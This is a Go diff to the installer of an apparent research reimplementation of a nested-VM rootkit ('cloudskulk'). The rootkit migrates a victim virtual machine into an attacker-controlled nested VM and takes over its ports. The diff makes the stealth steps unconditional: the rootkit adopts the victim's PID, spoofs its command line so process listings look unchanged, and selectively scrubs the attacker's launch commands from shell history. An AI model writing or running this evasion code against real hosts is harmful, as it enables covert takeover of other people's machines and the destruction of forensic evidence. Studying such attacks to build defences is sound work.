@@ -34,19 +34,6 @@ type InstallConfig struct {
 	// RITMPort is the port inside the RITM the nested VM listens on
 	// (paper: ROOTKIT PORT BBBB).
 	RITMPort int
-	// RITMMemoryMultiple sizes the RITM relative to the target (it must
-	// hold the nested VM plus its own OS).
-	RITMMemoryMultiple int64
-	// KeepPID re-labels the RITM process with the victim's original PID
-	// after the source is killed.
-	KeepPID bool
-	// SpoofCommandLine rewrites the RITM's process command line to the
-	// victim's, so `ps -ef` shows no change.
-	SpoofCommandLine bool
-	// ScrubHistory removes the attacker's own launch commands from the
-	// host's shell history (wiping everything would be suspicious;
-	// selective removal is not).
-	ScrubHistory bool
 	// Impersonate copies the victim's kernel-image region into the RITM
 	// so VMI fingerprinting of "the guest" still matches.
 	Impersonate bool
@@ -57,17 +44,17 @@ type InstallConfig struct {
 	HideVMCS bool
 }
 
+// ritmMemoryMultiple sizes the RITM relative to the target: it must hold
+// the nested VM plus its own OS.
+const ritmMemoryMultiple = 2
+
 // DefaultInstallConfig returns the paper's setup.
 func DefaultInstallConfig() InstallConfig {
 	return InstallConfig{
-		RITMName:           "guestX",
-		HostPort:           4444,
-		RITMPort:           4444,
-		RITMMemoryMultiple: 2,
-		KeepPID:            true,
-		SpoofCommandLine:   true,
-		ScrubHistory:       true,
-		Impersonate:        true,
+		RITMName:    "guestX",
+		HostPort:    4444,
+		RITMPort:    4444,
+		Impersonate: true,
 	}
 }
 
@@ -119,9 +106,6 @@ func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
 	if cfg.RITMPort == 0 {
 		cfg.RITMPort = cfg.HostPort
 	}
-	if cfg.RITMMemoryMultiple < 2 {
-		cfg.RITMMemoryMultiple = 2
-	}
 
 	eng := in.Host.Engine()
 	hv := in.Host.Hypervisor()
@@ -161,7 +145,7 @@ func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
 	// the migration forward HOST:AAAA -> RITM:BBBB.
 	ritmCfg := qemu.DefaultConfig(cfg.RITMName)
 	ritmCfg.Machine = targetCfg.Machine
-	ritmCfg.MemoryMB = targetCfg.MemoryMB * cfg.RITMMemoryMultiple
+	ritmCfg.MemoryMB = targetCfg.MemoryMB * ritmMemoryMultiple
 	ritmCfg.CPUs = targetCfg.CPUs
 	ritmCfg.EnableKVM = true
 	ritmCfg.NetDevs[0].HostFwds = []qemu.FwdRule{{HostPort: cfg.HostPort, GuestPort: cfg.RITMPort}}
@@ -208,7 +192,9 @@ func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
 	mark = step("live migration", mark)
 
 	// Clean-up: kill the drained source, take over its ports, PID, and
-	// command line.
+	// command line, and scrub the attacker's own launch commands from the
+	// host's shell history (wiping everything would be suspicious;
+	// selective removal is not).
 	originalFwds := fwdsOf(targetCfg)
 	if err := hv.Kill(targetCfg.Name); err != nil {
 		return nil, fmt.Errorf("cloudskulk: kill source: %w", err)
@@ -219,20 +205,14 @@ func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
 			return nil, fmt.Errorf("cloudskulk: port takeover %d: %w", rule.HostPort, err)
 		}
 	}
-	if cfg.KeepPID {
-		if err := in.Host.OS().SwapPID(ritm.PID(), report.OriginalPID); err == nil {
-			ritm.SetPID(report.OriginalPID)
-			report.PIDPreserved = true
-		}
+	if err := in.Host.OS().SwapPID(ritm.PID(), report.OriginalPID); err == nil {
+		ritm.SetPID(report.OriginalPID)
+		report.PIDPreserved = true
 	}
-	if cfg.SpoofCommandLine {
-		if proc, ok := in.Host.OS().Process(ritm.PID()); ok {
-			proc.Command = targetCfg.CommandLine()
-		}
+	if proc, ok := in.Host.OS().Process(ritm.PID()); ok {
+		proc.Command = targetCfg.CommandLine()
 	}
-	if cfg.ScrubHistory {
-		in.Host.OS().RemoveHistoryMatching("-name " + cfg.RITMName)
-	}
+	in.Host.OS().RemoveHistoryMatching("-name " + cfg.RITMName)
 
 	rk := &Rootkit{
 		Host:    in.Host,
